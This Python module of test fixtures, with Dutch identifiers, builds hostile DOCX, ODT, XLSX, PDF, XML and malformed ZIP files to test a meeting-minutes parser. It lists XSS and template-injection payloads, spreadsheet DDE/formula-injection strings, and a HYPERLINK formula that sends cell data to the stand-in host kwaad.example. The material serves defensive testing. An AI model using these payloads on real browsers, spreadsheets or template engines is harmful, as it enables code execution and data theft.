"""Waaruit vijandige bestanden zijn gebouwd: kleine geldige documenten van elke soort, en wat erin wordt gestopt."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from html import escape

#: Op volle omvang, en hoeveel groter dan wat kwadratisch groeit dan is.
LANG = "DIALOOGMETER_LANG" in os.environ
MAAL = 20 if LANG else 1


@dataclass(frozen=True)
class Geval:
    """Een bestand dat kwaad wil: ``maak`` geeft zijn bytes, pas als ze nodig zijn.

    ``bestand`` is de naam waaronder het in de map komt, met een map ervoor waar dat moet; ``lang`` zegt dat het alleen
    op volle omvang meedoet.
    """

    naam: str
    bestand: str | bytes
    maak: Callable[[], bytes]
    lang: bool = False


@dataclass(frozen=True)
class Lokaas:
    """Wat niemand mag ophalen: een adres waar wordt geluisterd, en een bestand met een geheim."""

    adres: str
    bestand: str


def geval(naam: str, bestand: str | bytes, inhoud: bytes | str, *, lang: bool = False) -> Geval:
    ruw = inhoud.encode() if isinstance(inhoud, str) else inhoud
    return Geval(naam, bestand, lambda: ruw, lang)


#: Wat een browser zou uitvoeren of ophalen als het niet als tekst werd opgeschreven.
KWAAD = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></style></textarea><script>alert(1)</script>",
    '<a href="javascript:alert(1)">klik</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://kwaad.example/">',
    '<base href="//kwaad.example/"><link rel=stylesheet href=//kwaad.example/x.css>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<form action="https://kwaad.example/"><button>ok</button></form>',
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<!-- --!><script>alert(1)</script> --> ]]><script>alert(1)</script>",
    "\u2028<style>*{background:url(//kwaad.example/)}</style>",
)
KWADE_TEKST = " ".join(KWAAD)
#: Een greep eruit, voor waar elk ervan een hele vergadering kost.
GREEP = KWAAD if LANG else KWAAD[:3]
#: Wat een rekenblad zou uitvoeren als het vooraan in een cel stond.
FORMULES = (
    '=HYPERLINK("https://kwaad.example/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
)
KOP = '<?xml version="1.0" encoding="UTF-8"?>'


def notulen(tekst: str = "Ik woon naast de brug.", spreker: str = "Keuning") -> str:
    return (
        "Verslag bewonersavond Zandwoude, 3 maart 2025\n\nDe voorzitter: Goedenavond allemaal.\n"
        f"Mevrouw {spreker} (bewoner): {tekst}\nWethouder Abbas (D66): Wat vindt u daar zelf van?\n"
    )


# -- zips ------------------------------------------------------------------------------------------


def zip_van(
    delen: dict[str, bytes | str] | list[tuple[str | zipfile.ZipInfo, bytes | str]],
    methode: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    buffer = io.BytesIO()
    paren = list(delen.items()) if isinstance(delen, dict) else delen
    with zipfile.ZipFile(buffer, "w", methode) as pak:
        for naam, inhoud in paren:
            pak.writestr(naam, inhoud, methode)
    return buffer.getvalue()


@dataclass(frozen=True)
class Lid:
    """Een bestand in een zip, met alles wat de kop en de inhoudsopgave erover liegen."""

    naam: bytes
    inhoud: bytes
    methode: int = 8
    vlaggen: int = 0
    omvang: int | None = None
    ingepakt: int | None = None
    controlegetal: int | None = None
    naam_in_kop: bytes | None = None
    plaats: int | None = None
    kenmerken: int = 0
    extra: bytes = b""


def ruwe_zip(*leden: Lid, aantal: int | None = None, begin: int | None = None, staart: bytes = b"") -> bytes:
    """Een zip waarin alles staat zoals een test het wil; ``Lid.plaats`` laat een lid naar de kop van een ander wijzen."""
    delen, gids, plaats = [], [], 0
    for lid in leden:
        pers = zlib.compressobj(9, zlib.DEFLATED, -15)
        ingepakt = pers.compress(lid.inhoud) + pers.flush() if lid.methode == 8 else lid.inhoud
        som = zlib.crc32(lid.inhoud) if lid.controlegetal is None else lid.controlegetal
        maten = (
            len(ingepakt) if lid.ingepakt is None else lid.ingepakt,
            len(lid.inhoud) if lid.omvang is None else lid.omvang,
        )
        kopnaam = lid.naam if lid.naam_in_kop is None else lid.naam_in_kop
        kop = struct.pack("<4s5H3I2H", b"PK\3\4", 20, lid.vlaggen, lid.methode, 0, 33, som, *maten, len(kopnaam), 0)
        gids.append(
            struct.pack(
                "<4s6H3I5H2I", b"PK\1\2", 0x314, 20, lid.vlaggen, lid.methode, 0, 33, som, *maten, len(lid.naam),
                len(lid.extra), 0, 0, 0, lid.kenmerken, plaats if lid.plaats is None else lid.plaats,
            )
            + lid.naam
            + lid.extra
        )  # fmt: skip
        if lid.plaats is None:
            delen.append(kop + kopnaam + ingepakt)
            plaats += len(delen[-1])
    inhoudsopgave = b"".join(gids)
    n = len(leden) if aantal is None else aantal
    slot = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, n, n, len(inhoudsopgave), plaats if begin is None else begin, 0)
    return b"".join(delen) + inhoudsopgave + slot + staart


# -- XML: kamerverslagen ---------------------------------------------------------------------------


def vlos(
    tekst: str = "Ik woon naast de brug.", doctype: str = "", naam: str = "Keuning", titel: str = "De brug"
) -> str:
    return (
        f'{KOP}{doctype}<vlosCoreDocument xmlns="http://www.tweedekamer.nl/ggm/v1"><vergadering><titel>3e vergadering'
        f"</titel><datum>2014-10-15T00:00:00</datum><activiteit><titel>{titel}</titel><activiteithoofd><activiteitdeel>"
        f'<activiteititem><woordvoerder><spreker soort="Tweede Kamerlid"><fractie>GL</fractie><verslagnaam>{naam}'
        f"</verslagnaam></spreker><isvoorzitter>false</isvoorzitter><tekst><alinea><alineaitem>{tekst}</alineaitem>"
        "</alinea></tekst></woordvoerder></activiteititem></activiteitdeel></activiteithoofd></activiteit>"
        "</vergadering></vlosCoreDocument>"
    )


def officieel(
    tekst: str = "Ik woon naast de brug.", doctype: str = "", naam: str = "Keuning", titel: str = "De brug"
) -> str:
    return (
        f"{KOP}{doctype}<officiele-publicatie><handelingen><agendapunt><nr>1</nr><item-titel>{titel}</item-titel>"
        f"<spreekbeurt><spreker><voorvoegsels>Mevrouw</voorvoegsels><naam>{naam}</naam><politiek>GL</politiek>"
        f"</spreker><tekst><al>{tekst}</al></tekst></spreekbeurt></agendapunt></handelingen></officiele-publicatie>"
    )


def parlamint(
    tekst: str = "Ik woon naast de brug.", doctype: str = "", naam: str = "AnnaKeuning", titel: str = "De brug"
) -> str:
    return (
        f'{KOP}{doctype}<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:lang="nl" xml:id="ParlaMint-NL_2014">'
        f'<teiHeader><fileDesc><titleStmt><title type="main">{titel}</title></titleStmt></fileDesc></teiHeader><text>'
        f'<body><div><head>{titel}</head><note type="speaker">Mevrouw {naam} (GL):</note><u who="#{escape(naam)}" '
        f'ana="#regular"><seg>{tekst}</seg></u></div></body></text></TEI>'
    )


# -- XML in een zip --------------------------------------------------------------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PAKKET = "http://schemas.openxmlformats.org/package/2006"
_SOORT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"
_SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RUIMTEN = " ".join(
    f'xmlns:{naam}="{_ODF}:{uri}:1.0"'
    for naam, uri in (("office", "office"), ("text", "text"), ("table", "table"), ("style", "style"))
)


def docx_delen(lichaam: str, doctype: str = "", relaties: str = "") -> dict[str, bytes | str]:
    """De delen van een docx; ``lichaam`` is wat in w:body staat."""
    return {
        "[Content_Types].xml": f'{KOP}<Types xmlns="{_PAKKET}/content-types"><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
        f'ContentType="{_TYPE}.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": f'{KOP}<Relationships xmlns="{_PAKKET}/relationships"><Relationship Id="rId1" '
        f'Type="{_SOORT}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'{KOP}{doctype}<w:document xmlns:w="{_W}" xmlns:r="{_SOORT}"><w:body>{lichaam}'
        "</w:body></w:document>",
        "word/_rels/document.xml.rels": f'{KOP}<Relationships xmlns="{_PAKKET}/relationships">{relaties}'
        "</Relationships>",
    }


def docx_alinea(tekst: str) -> str:
    """Een alinea; ``tekst`` is al XML."""
    return f'<w:p><w:r><w:t xml:space="preserve">{tekst}</w:t></w:r></w:p>'


def docx(*alineas: str, doctype: str = "") -> bytes:
    """Een docx met deze alinea's, die al XML zijn."""
    return zip_van(docx_delen("".join(map(docx_alinea, alineas)), doctype))


def odt_delen(lichaam: str, doctype: str = "") -> dict[str, bytes | str]:
    """De delen van een odt; ``lichaam`` is wat in office:text staat."""
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml": "<manifest/>",
        "styles.xml": f"<office:document-styles {_RUIMTEN}><office:styles/></office:document-styles>",
        "content.xml": f"{KOP}{doctype}<office:document-content {_RUIMTEN}><office:body><office:text>{lichaam}"
        "</office:text></office:body></office:document-content>",
    }


def odt(*alineas: str, doctype: str = "") -> bytes:
    return zip_van(odt_delen("".join(f"<text:p>{alinea}</text:p>" for alinea in alineas), doctype))


def ods_delen(blad: str, doctype: str = "") -> dict[str, bytes | str]:
    """De delen van een ods; ``blad`` is wat in table:table staat."""
    return {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": f'{KOP}<manifest:manifest xmlns:manifest="{_ODF}:manifest:1.0"/>',
        "content.xml": f"{KOP}{doctype}<office:document-content {_RUIMTEN}><office:body><office:spreadsheet>"
        f'<table:table table:name="Blad1">{blad}</table:table></office:spreadsheet></office:body>'
        "</office:document-content>",
    }


def ods_rij(*cellen: str, keer: int = 1, kolommen: int = 1) -> str:
    """Een rij; cellen zijn al XML."""
    binnen = "".join(
        f'<table:table-cell office:value-type="string" table:number-columns-repeated="{kolommen}"><text:p>{cel}</text:p>'
        "</table:table-cell>"
        for cel in cellen
    )
    return f'<table:table-row table:number-rows-repeated="{keer}">{binnen}</table:table-row>'


def xlsx_delen(blad: str, doctype: str = "", gedeeld: str = "", naam: str = "Blad1") -> dict[str, bytes | str]:
    """De delen van een xlsx; ``blad`` is wat in sheetData staat."""
    delen: dict[str, bytes | str] = {
        "[Content_Types].xml": f'{KOP}<Types xmlns="{_PAKKET}/content-types"/>',
        "_rels/.rels": f'{KOP}<Relationships xmlns="{_PAKKET}/relationships"><Relationship Id="rId1" '
        f'Type="{_SOORT}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{KOP}<workbook xmlns="{_SPREADSHEET}" xmlns:r="{_SOORT}"><sheets><sheet '
        f'name="{escape(naam)}" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{KOP}<Relationships xmlns="{_PAKKET}/relationships"><Relationship Id="rId1" '
        f'Type="{_SOORT}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'{KOP}{doctype}<worksheet xmlns="{_SPREADSHEET}"><sheetData>{blad}</sheetData>'
        "</worksheet>",
    }
    if gedeeld:
        delen["xl/sharedStrings.xml"] = f'{KOP}<sst xmlns="{_SPREADSHEET}">{gedeeld}</sst>'
    return delen


def xlsx_rij(*cellen: str) -> str:
    """Een rij; cellen zijn al XML."""
    binnen = "".join(f'<c t="inlineStr"><is><t xml:space="preserve">{cel}</t></is></c>' for cel in cellen)
    return f"<row>{binnen}</row>"


# -- PDF -------------------------------------------------------------------------------------------

LETTER = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf(*objecten: bytes, slot: bytes = b"/Root 1 0 R", versie: bytes = b"1.7") -> bytes:
    """Een PDF uit objecten, genummerd vanaf 1, met een tabel van plaatsen die klopt."""
    uit = bytearray(b"%PDF-" + versie + b"\n")
    plaatsen = []
    for nummer, inhoud in enumerate(objecten, start=1):
        plaatsen.append(len(uit))
        uit += b"%d 0 obj\n%b\nendobj\n" % (nummer, inhoud)
    begin = len(uit)
    uit += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objecten) + 1)
    for plaats in plaatsen:
        uit += b"%010d 00000 n \n" % plaats
    return bytes(uit + b"trailer\n<</Size %d %b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objecten) + 1, slot, begin))


def stroom(inhoud: bytes, woordenboek: bytes = b"", lengte: bytes | None = None) -> bytes:
    maat = b"%d" % len(inhoud) if lengte is None else lengte
    return b"<</Length %b %b>>\nstream\n%b\nendstream" % (maat, woordenboek, inhoud)


def tekststroom(tekst: bytes) -> bytes:
    return b"BT /F1 11 Tf 50 700 Td (%b) Tj ET" % tekst


def eenvoudige_pdf(
    inhoud: bytes | None = None,
    *meer: bytes,
    pagina: bytes = b"",
    catalogus: bytes = b"",
    bron: bytes = b"/Font<</F1 5 0 R>>",
    slot: bytes = b"/Root 1 0 R",
) -> bytes:
    """Een PDF van een bladzijde; object 4 is haar inhoud, 5 de letter, vanaf 6 wat een test erbij zet."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R %b>>" % catalogus,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%b>>%b>>" % (bron, pagina),
        stroom(tekststroom(b"De voorzitter: Goedenavond allemaal.")) if inhoud is None else inhoud,
        LETTER,
        *meer,
        slot=slot,
    )
